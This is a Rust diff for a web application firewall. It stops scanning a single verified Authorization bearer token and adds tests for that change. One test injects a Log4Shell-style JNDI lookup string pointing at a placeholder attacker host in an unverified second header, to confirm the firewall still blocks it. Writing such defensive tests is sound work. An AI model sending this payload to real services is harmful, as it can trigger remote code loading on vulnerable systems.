@@ -36,6 +36,8 @@ pub(crate) struct Inspected<'a> {
     pub query: Option<&'a str>,
     /// The request headers.
     pub headers: &'a http::HeaderMap,
+    /// Whether authenticate verified the `Authorization` header (see [`headers_to_inspect`]).
+    pub verified_authorization: bool,
     /// The buffered body (empty when the body streams: see `body.rs`).
     pub body: &'a [u8],
 }
@@ -82,14 +84,7 @@ impl Firewall {
             WafMode::Block => Mode::Block,
             WafMode::Detect => Mode::DetectOnly,
         };
-        let headers: Vec<Header<'_>> = request
-            .headers
-            .iter()
-            .map(|(name, value)| Header {
-                name: name.as_str(),
-                value: value.as_bytes(),
-            })
-            .collect();
+        let headers = headers_to_inspect(request.headers, request.verified_authorization);
         let content_type = request
             .headers
             .get(http::header::CONTENT_TYPE)
@@ -132,6 +127,32 @@ impl Firewall {
         }
         Some(verdict)
     }
+}
+
+/// The headers the firewall reads, in the order received. A verified `Authorization` header
+/// (a bearer token whose signature, issuer and audience authenticate checked) is a
+/// credential, not client data, and scanning its ~1 KB of base64 with every detector was the
+/// costliest part of inspecting a typical request: it is left out when it is the only one
+/// (authenticate reads the first; with several, the others were never verified and all are
+/// read). It still goes to the department.
+fn headers_to_inspect(headers: &http::HeaderMap, verified_authorization: bool) -> Vec<Header<'_>> {
+    let mut inspected = Vec::with_capacity(headers.len());
+    let mut authorizations = 0;
+    let mut authorization_at = 0;
+    for (name, value) in headers {
+        if name == http::header::AUTHORIZATION {
+            authorizations += 1;
+            authorization_at = inspected.len();
+        }
+        inspected.push(Header {
+            name: name.as_str(),
+            value: value.as_bytes(),
+        });
+    }
+    if verified_authorization && authorizations == 1 {
+        inspected.remove(authorization_at);
+    }
+    inspected
 }
 
 /// The record of a verdict: the top finding with its bounded excerpt, never the payload.
@@ -277,6 +298,7 @@ mod tests {
             path,
             query,
             headers,
+            verified_authorization: false,
             body,
         }
     }
@@ -373,5 +395,58 @@ mod tests {
         assert_eq!(record.outcome, "detected");
         assert_eq!(record.class, Some("sqli"));
         assert_eq!(record.location.as_deref(), Some("query:id"));
+    }
+
+    #[test]
+    fn only_a_single_verified_token_is_kept_from_the_firewall() {
+        let names = |headers: &[Header<'_>]| -> Vec<(String, Vec<u8>)> {
+            headers
+                .iter()
+                .map(|h| (h.name.to_owned(), h.value.to_vec()))
+                .collect()
+        };
+        let mut headers = http::HeaderMap::new();
+        headers.insert(
+            http::header::ACCEPT,
+            http::HeaderValue::from_static("application/fhir+json"),
+        );
+        headers.insert(
+            http::header::AUTHORIZATION,
+            http::HeaderValue::from_static("Bearer eyJ.verified.sig"),
+        );
+        headers.insert("x-trace", http::HeaderValue::from_static("1"));
+        let all = names(&headers_to_inspect(&headers, false));
+        assert_eq!(all.len(), 3);
+        assert_eq!(all[1].0, "authorization");
+
+        // The one header authenticate verified: left out, nothing else.
+        let inspected = names(&headers_to_inspect(&headers, true));
+        assert_eq!(inspected, [all[0].clone(), all[2].clone()]);
+
+        // A second Authorization header was never verified: both are inspected.
+        headers.append(
+            http::header::AUTHORIZATION,
+            http::HeaderValue::from_static("${jndi:ldap://attacker.example/a}"),
+        );
+        let inspected = names(&headers_to_inspect(&headers, true));
+        assert_eq!(inspected.len(), 4);
+        assert!(
+            inspected
+                .iter()
+                .any(|(name, value)| name == "authorization" && value.starts_with(b"${jndi"))
+        );
+
+        // And the firewall sees it: an attack in an unverified second header still blocks.
+        let firewall = Firewall::from_policy(&Waf::default());
+        let verdict = firewall
+            .inspect(
+                &Inspected {
+                    verified_authorization: true,
+                    ..request("/record/x", None, &headers, b"")
+                },
+                placement(Some("record")),
+            )
+            .unwrap();
+        assert!(verdict.is_blocked(), "{}", verdict.explain());
     }
 }
